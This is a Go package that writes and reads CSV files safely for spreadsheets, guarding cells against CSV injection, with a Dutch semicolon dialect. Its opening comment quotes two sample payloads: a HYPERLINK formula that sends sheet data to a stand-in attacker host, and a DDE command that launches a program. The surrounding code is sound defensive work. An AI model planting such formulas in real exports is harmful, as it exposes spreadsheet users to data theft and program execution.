// Package sheet writes CSV files for people who open them in a spreadsheet:
// every CSV the product writes (partner statements, the finance view, the
// legitimacy report, the Iv3 code list) goes through its Writer, so none of
// them can make a spreadsheet run a formula.
//
// A spreadsheet (Excel, LibreOffice Calc, Google Sheets) runs a cell as a
// formula when its text begins with =, + , - or @, and some begin one after
// a leading tab or carriage return. A party named
// =HYPERLINK("http://evil.example/?"&A1,"Klik") would become a link that
// sends the sheet's data away; =cmd|' /C calc'!A0 starts a program in old
// versions of Excel. This is CSV injection (CWE-1236); the package follows
// the OWASP guidance on it
// (https://owasp.org/www-community/attacks/CSV_Injection): a text cell that
// begins with one of =, +, -, @, tab or carriage return is written with a
// single quote in front, which spreadsheets take as "this is text" and do
// not show, and the cell is quoted. OWASP warns that the separator matters
// as well: a spreadsheet in a Dutch locale splits lines on semicolons, and
// any program may take a line break for the end of a row, so a trigger
// right after a semicolon, tab or line break inside a text cell gets the
// same quote.
//
// Numbers are not text: -12.50 is an amount, and must stay a number a
// spreadsheet can add up. A Writer therefore knows which cells are numbers
// (Number, Int) and which are text (Text) rather than guessing from the
// characters; a number cell is written bare, and one that is not a plain
// decimal number after all is written as the text it is, guarded.
//
// The output is RFC 4180 CSV as encoding/csv writes it (comma, line feed at
// the end of a row, a field quoted when it holds a comma, a quote, a line
// break or a leading space), so an ordinary file comes out byte for byte
// as before; encoding/csv cannot be told to quote a field that needs no
// quoting, which is why the few lines of encoding are here.
//
// That standard dialect is read wrongly by a spreadsheet in a Dutch locale,
// which separates fields with semicolons and writes decimals with a comma:
// "86777.18" becomes eight million or a date. Every file can therefore also
// be written in the Dutch dialect (Dialect): semicolons, decimal commas,
// and UTF-8 with a byte order mark, which Excel needs to read ë and € as
// UTF-8. The dialect is chosen once, when the Writer is made; the cells do
// not change. The package reads CSV too (Reader), in either dialect, as a
// spreadsheet saves it.
package sheet

import (
	"bufio"
	"io"
	"regexp"
	"strconv"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Cell is one field of a row: text, or a number.
type Cell struct {
	value  string
	number bool
	code   bool
}

// Text is a cell of text: a name, a label, a code, a date.
func Text(s string) Cell { return Cell{value: s} }

// Number is a cell holding a decimal number written with a point, as
// ledger.Cents and ledger.Ratio write themselves ("-12.50", "0.1798"). A
// value that is not such a number is written as text instead, guarded like
// any other text, so a cell can never reach a spreadsheet as a formula by
// being called a number.
func Number(s string) Cell {
	if !decimal.MatchString(s) {
		return Text(s)
	}
	return Cell{value: s, number: true}
}

// Int is a cell holding a whole number: a count, a year, a sequence number.
func Int(n int64) Cell { return Cell{value: strconv.FormatInt(n, 10), number: true} }

// Code is a cell holding a code of numbers and dots (an Iv3 taakveld such
// as "6.751", an economic category such as "4.3.1"): text that looks like a
// number. A spreadsheet in a Dutch locale reads "6.751" as 6751 (the point
// is its thousands separator) and "6.21" as a date or a number, so the
// Dutch dialect writes such a code as the constant text formula ="6.751",
// which Excel and LibreOffice Calc show as the text 6.751; Reader reads it
// back as the code. Only digits separated by single dots are written so;
// anything else is plain, guarded text, so no other formula can pass as a
// code. The standard dialect writes the code as it is.
func Code(s string) Cell {
	if !code.MatchString(s) {
		return Text(s)
	}
	return Cell{value: s, code: true}
}

// Empty is an empty cell.
var Empty = Cell{}

// decimal is a plain decimal number: what Number writes bare.
var decimal = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// code is a code of digits separated by single dots: what Code writes as a
// text formula in the Dutch dialect.
var code = regexp.MustCompile(`^[0-9]+(\.[0-9]+)*$`)

// formulaStart reports whether a spreadsheet may take a cell, or the part
// of it after a separator, that begins with c for a formula.
func formulaStart(c byte) bool {
	switch c {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// splits reports whether a spreadsheet may start a new cell or row after c
// inside a text cell: a semicolon (the list separator of Dutch and other
// European locales), a tab, or a line break.
func splits(c byte) bool { return c == ';' || c == '\t' || c == '\n' || c == '\r' }

// LooksLikeFormula reports whether Text(s) is written with a guard: s, or
// a part of it after a separator, begins with a character a spreadsheet
// takes as the start of a formula. A format that must read back what it
// writes (the Iv3 code list) refuses such text instead.
func LooksLikeFormula(s string) bool { return guard(s) != s }

// guard puts a single quote before every place in s where a spreadsheet
// could start reading a formula.
func guard(s string) string {
	at := func(i int) bool { return formulaStart(s[i]) && (i == 0 || splits(s[i-1])) }
	n := 0
	for i := 0; i < len(s); i++ {
		if at(i) {
			n++
		}
	}
	if n == 0 {
		return s
	}
	var b strings.Builder
	b.Grow(len(s) + n)
	for i := 0; i < len(s); i++ {
		if at(i) {
			b.WriteByte('\'')
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// Writer writes rows of cells as CSV. Like encoding/csv's Writer it
// buffers: call Flush at the end, which returns the first error met.
type Writer struct {
	w   *bufio.Writer
	d   Dialect
	err error
}

// NewWriter returns a Writer that writes to w in the standard dialect.
func NewWriter(w io.Writer) *Writer { return NewDialectWriter(w, Standard) }

// NewDialectWriter returns a Writer that writes to w in the dialect d; a
// file in the Dutch dialect begins with a byte order mark.
func NewDialectWriter(w io.Writer, d Dialect) *Writer {
	sw := &Writer{w: bufio.NewWriter(w), d: d}
	if d.bom() {
		sw.w.WriteString(bom)
	}
	return sw
}

// Row writes one row; no cells write an empty line.
func (w *Writer) Row(cells ...Cell) {
	if w.err != nil {
		return
	}
	for i, c := range cells {
		if i > 0 {
			w.w.WriteByte(w.d.Comma())
		}
		if c.number {
			w.w.WriteString(w.d.number(c.value))
			continue
		}
		if c.code && w.d == Dutch {
			w.w.WriteString(`"=""` + c.value + `"""`)
			continue
		}
		v := guard(c.value)
		if v == c.value && !w.d.needsQuotes(v) {
			w.w.WriteString(v)
			continue
		}
		w.w.WriteByte('"')
		w.w.WriteString(strings.ReplaceAll(v, `"`, `""`))
		w.w.WriteByte('"')
	}
	_, w.err = w.w.WriteString("\n")
}

// Strings writes a row of text cells.
func (w *Writer) Strings(cells ...string) {
	row := make([]Cell, len(cells))
	for i, s := range cells {
		row[i] = Text(s)
	}
	w.Row(row...)
}

// Flush writes what is buffered and returns the first error met.
func (w *Writer) Flush() error {
	if err := w.w.Flush(); w.err == nil {
		w.err = err
	}
	return w.err
}

// needsQuotes is encoding/csv's rule for a comma-separated field, so that
// a file without anything to guard comes out as encoding/csv would write
// it: a field is quoted when it holds a comma, a quote or a line break,
// begins with a space, or is \. (which some programs take for the end of
// the data). In the Dutch dialect a field is quoted when it holds a
// semicolon or a comma: the semicolon is its separator, and a file opened
// by a spreadsheet that splits on commas must not split a text there
// either (where a formula could begin after the comma).
func (d Dialect) needsQuotes(s string) bool {
	if s == "" {
		return false
	}
	special := ",\"\r\n"
	if d == Dutch {
		special = ",;\"\r\n"
	}
	if s == `\.` || strings.ContainsAny(s, special) {
		return true
	}
	r, _ := utf8.DecodeRuneInString(s)
	return unicode.IsSpace(r)
}
